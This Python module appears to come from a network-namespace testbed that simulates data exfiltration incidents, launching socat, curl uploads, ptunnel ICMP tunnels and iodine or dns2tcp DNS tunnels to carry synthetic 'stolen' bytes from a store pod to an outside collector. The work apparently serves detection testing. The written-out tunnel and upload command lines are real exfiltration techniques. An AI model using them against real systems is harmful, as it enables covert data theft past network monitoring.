"""Third-party tools that leak: the program in the store's pod, its server end outside, synthetic data through both.

The testbed hands the client end what the plan says when it says so, and takes from the server end what arrives; the way in
between is the tool's own. Both end with the incident, or with the testbed.
"""

from __future__ import annotations

import asyncio
import socket
import sys
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np

from mimir.cluster.netns import launch
from mimir.cluster.netns.application import Application
from mimir.cluster.netns.dns import Outside
from mimir.cluster.netns.hosts import Host, PodHost
from mimir.cluster.netns.layout import DNS_PORT, Layout
from mimir.cluster.netns.requirements import tool as path_of
from mimir.cluster.netns.tasks import BROKEN
from mimir.errors import MimirError
from mimir.exfiltration.channels.tools import TOOLS
from mimir.exfiltration.plan import Incident, stolen_bytes
from mimir.spec.exfiltration import ExfiltrationSpec
from mimir.units import NS_PER_S

_NET, _FAR, _COLLECT, _NEAR_PORT, _SECRET = "100.64.53.1/27", "100.64.53.1", 9001, 9000, "mimir"
_READY_S, _TRY_S, _LAST_S, _LAUNCH_S, _END_S = 30.0, 0.1, 30.0, 0.5, 1.0
_TUNNEL = "dns0"
_ECHO = Path("/proc/sys/net/ipv4/icmp_echo_ignore_all")
_TAIL = 400


@dataclass
class Ends:
    """How a tool is used: its server end, its client end, where the client end takes data, where the server end gives it.

    `entry` and `exit` are (address, port) of a TCP socket in the pod and outside; None is the program's standard input or output.
    """

    server: list[str]
    client: list[str]
    entry: tuple[str, int] | None
    exit: tuple[str, int] | None
    config: str = ""  #: on the server's standard input
    http: bool = False  #: the client speaks HTTP to the exit
    ready: tuple[str, int] | None = None  #: (tcp or udp, port) that the server end opens when it is ready


def ends_of(spec: ExfiltrationSpec, layout: Layout) -> Ends:
    """Command lines of a tool, without its paths."""
    addresses, port = layout.cluster.addresses, spec.port or 0
    sink, resolver = addresses.sink, addresses.dns_service
    if spec.channel == "tool_socat":
        server = ["socat", "-u", f"TCP4-LISTEN:{port},bind={sink},reuseaddr", "STDOUT"]
        return Ends(server, ["socat", "-u", "STDIN", f"TCP4:{sink}:{port}"], None, None, ready=("tcp", port))
    if spec.channel == "tool_curl":
        client = ["curl", "-q", "-sS", "-N", "--noproxy", "*", "-T", "-", f"http://{sink}:{port}/upload"]
        return Ends([], client, None, (sink, port), http=True)
    if spec.channel == "tool_ptunnel":
        client = ["ptunnel", "-p", sink, "-lp", str(_NEAR_PORT), "-da", sink, "-dp", str(_COLLECT)]
        return Ends(["ptunnel"], client, ("127.0.0.1", _NEAR_PORT), (sink, _COLLECT))
    assert spec.dns
    domain, kind = spec.dns.domain, spec.dns.record_type
    if spec.channel == "tool_iodine":
        server = ["iodined", "-f", "-c", "-P", _SECRET, "-l", sink, _NET, domain]
        client = [
            "iodine",
            "-f",
            "-r",
            "-I",
            "1",
            "-d",
            _TUNNEL,
            "-T",
            kind,
            "-M",
            str(spec.dns.name_bytes),
            "-P",
            _SECRET,
            resolver,
        ]
        return Ends(server, [*client, domain], (_FAR, _COLLECT), (_FAR, _COLLECT), ready=("udp", DNS_PORT))
    config = f"listen = {sink}\nport = {DNS_PORT}\nkey = {_SECRET}\ndomain = {domain}\nresources = collect:{sink}:{_COLLECT}\n"
    client = ["dns2tcpc", "-r", "collect", "-k", _SECRET, "-z", domain, "-T", kind, "-l", str(_NEAR_PORT), resolver]
    server = ["dns2tcpd", "-F", "-f", "/dev/stdin"]
    return Ends(server, client, ("127.0.0.1", _NEAR_PORT), (sink, _COLLECT), config, ready=("udp", DNS_PORT))


@dataclass
class Program:
    """A running program and the end of what it said."""

    process: asyncio.subprocess.Process
    said: bytearray = field(default_factory=bytearray)

    async def listen(self, stream: asyncio.StreamReader | None, data: Callable[[bytes], None] | None = None) -> None:
        """Read a stream of it to the end: data, or what it says."""
        while stream and (piece := await stream.read(65536)):
            if data:
                data(piece)
            else:
                self.said = (self.said + piece)[-_TAIL:]


class ToolAct:
    """One incident by a tool. `left` and `arrived` hold what was handed over and what came out, with times."""

    def __init__(
        self, spec: ExfiltrationSpec, application: Application, incident: Incident, random: np.random.Generator,
        outside: Outside,
    ):  # fmt: skip
        self.incident, self._spec, self._it, self._outside = incident, spec, application, outside
        stores = application.hosts.of(incident.path[0])
        self._store: PodHost = stores[int(random.integers(len(stores)))]
        self._ends = ends_of(spec, application.layout)
        self._programs: list[Program] = []
        self.left: list[tuple[float, bytes]] = []
        self.arrived: list[tuple[float, bytes]] = []
        self._received, self._all = 0, asyncio.Event()
        self._random = random
        self._client: Program | None = None
        self._server: asyncio.Server | None = None
        self._lost = False  # with its pod

    @property
    def pods(self) -> tuple[str, ...]:
        """The store's pod; of kube-dns every query may take another one."""
        return (self._store.pod.name, *[""] * (len(self.incident.path) - 1))

    def gone(self, host: PodHost) -> None:
        """A pod's process has ended: if it was the store's, the tool ends with it, and the leak with the tool."""
        if host is self._store and self._client:
            self._lost = True
            self._all.set()
            if self._client.process.returncode is None:
                self._client.process.kill()

    async def run(self) -> None:
        """Server end, client end, data as planned, until all arrived or nothing comes any more. MimirError from a tool that fails."""
        try:
            self._ignore_echo(True)
            await self._act()
        except MimirError:
            if not self._lost:
                raise
        finally:
            if self._server:
                self._server.close()
            for program in self._programs:
                await launch.end(program.process)
            self._outside.zone_server = None
            self._ignore_echo(False)

    async def _act(self) -> None:
        hosts, ends = self._it.hosts, self._ends
        if ends.server:
            await self._start(ends.server, hosts.outside, config=ends.config, gives=ends.exit is None)
            await self._until(self._ready)
        if self._spec.dns:
            self._outside.zone_server = lambda: hosts.outside.datagrams(
                self._it.layout.cluster.addresses.sink, DNS_PORT
            )
        await asyncio.sleep(max(0.0, self.incident.start_s - _LAUNCH_S - time.time()))
        if ends.exit:
            self._server = await self._until(lambda: hosts.outside.listen(self._collect, ends.exit[1], ends.exit[0]))  # type: ignore[index]
        self._store = await hosts.another(self._store, self._random)
        client = self._client = await self._start(ends.client, self._store, takes=ends.entry is None)
        writer = client.process.stdin
        await self._until(self._tunnelled)
        if ends.entry:
            _, writer = await self._until(lambda: self._store.connect(*ends.entry))  # type: ignore[misc]
        assert writer
        await self._feed(writer)
        with suppress(TimeoutError):  # programs that end by themselves close their connections
            await asyncio.wait_for(client.process.wait(), _END_S)

    async def _feed(self, writer: asyncio.StreamWriter) -> None:
        for at, data in zip(self.incident.message_ns.tolist(), stolen_bytes(self.incident), strict=True):
            await asyncio.sleep(max(0.0, (at - time.time_ns()) / NS_PER_S))
            if self._lost:
                return
            self.left.append((time.time(), data))
            try:
                writer.write(data)
                await writer.drain()
            except BROKEN as error:
                raise self._failed(f"took no more data ({type(error).__name__})") from None
        before = -1  # the way in stays open meanwhile: some tools drop what they hold when it closes
        while not self._lost and before < self._received < self.incident.bytes_intended:  # as long as something comes
            before = self._received
            try:
                async with asyncio.timeout(_LAST_S):
                    await self._all.wait()
            except TimeoutError:
                continue
        writer.close()

    async def _start(
        self, command: list[str], host: Host, *, takes: bool = False, gives: bool = False, config: str = ""
    ) -> Program:
        program, *arguments = command
        path = path_of(program)
        if path is None:
            raise MimirError(
                f"{self._spec.channel} needs the program {program}: apt-get install {TOOLS[self._spec.channel].package}"
            )
        pipe, nothing = asyncio.subprocess.PIPE, asyncio.subprocess.DEVNULL
        process = await launch.start(
            host.namespace, self._it.layout.resolv_conf(self._store.pod.namespace), [path, *arguments],
            stdin=pipe if takes or config else nothing, stderr=pipe,
        )  # fmt: skip
        made = Program(process)
        self._programs.append(made)
        self._it.tasks.start(made.listen(process.stdout, self._got if gives else None), program)
        self._it.tasks.start(made.listen(process.stderr), program)
        if config and process.stdin:
            process.stdin.write(config.encode())
            process.stdin.close()
        return made

    async def _until(self, attempt: Callable[[], Awaitable[Any]]) -> Any:
        """What an attempt gives as soon as it succeeds. MimirError when the tool ends or nothing comes of it."""
        until = time.monotonic() + _READY_S
        while True:
            try:
                return await attempt()
            except BROKEN as error:
                if time.monotonic() > until:
                    raise self._failed(f"is not there after {_READY_S:g} s ({error})") from None
            if any(program.process.returncode is not None for program in self._programs):
                raise self._failed("ended")
            await asyncio.sleep(_TRY_S)

    async def _tunnelled(self) -> None:
        """ConnectionError until the pod has a way into iodine's tunnel: what is sent before would leave by the node."""
        if self._spec.channel == "tool_iodine":
            with self._store.namespace:
                table = Path("/proc/thread-self/net/route").read_text(encoding="ascii")
            if _TUNNEL not in [line.split()[0] for line in table.splitlines()]:
                raise ConnectionError(f"{_TUNNEL} is not up")

    async def _ready(self) -> None:
        """ConnectionError until the server end has opened its port; nothing is sent to find out."""
        if self._ends.ready:
            kind, port = self._ends.ready
            address = socket.inet_aton(self._it.layout.cluster.addresses.sink)
            wanted = f"{int.from_bytes(address, sys.byteorder):08X}:{port:04X}"
            with self._it.hosts.outside.namespace:
                table = Path(f"/proc/thread-self/net/{kind}").read_text(encoding="ascii")
            if wanted not in [line.split()[1] for line in table.splitlines()[1:]]:
                raise ConnectionError(f"{kind} port {port} is closed")

    def _failed(self, what: str) -> MimirError:
        said = " … ".join(p.said.decode(errors="replace").strip() for p in self._programs if p.said)
        return MimirError(f"{self.incident.name}: {self._spec.channel} {what}; it said: {said or 'nothing'}")

    async def _collect(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """The collector outside: whatever comes, or the chunks of one HTTP body."""
        try:
            if self._ends.http:
                await self._upload(reader, writer)
            else:
                while piece := await reader.read(65536):
                    self._got(piece)
        except BROKEN:
            pass
        finally:
            writer.close()

    async def _upload(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).lower()
        if b"expect: 100-continue" in head:
            writer.write(b"HTTP/1.1 100 Continue\r\n\r\n")
        while size := int(await reader.readline(), 16):
            self._got(await reader.readexactly(size))
            await reader.readline()
        writer.write(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n")

    def _got(self, piece: bytes) -> None:
        self.arrived.append((time.time(), piece))
        self._received += len(piece)
        if self._received >= self.incident.bytes_intended:
            self._all.set()

    def _ignore_echo(self, ignore: bool) -> None:
        """ptunnel answers pings itself: the kernel outside must not do it too."""
        if self._spec.channel == "tool_ptunnel":
            with self._it.hosts.outside.namespace:
                _ECHO.write_text("1" if ignore else "0", encoding="ascii")
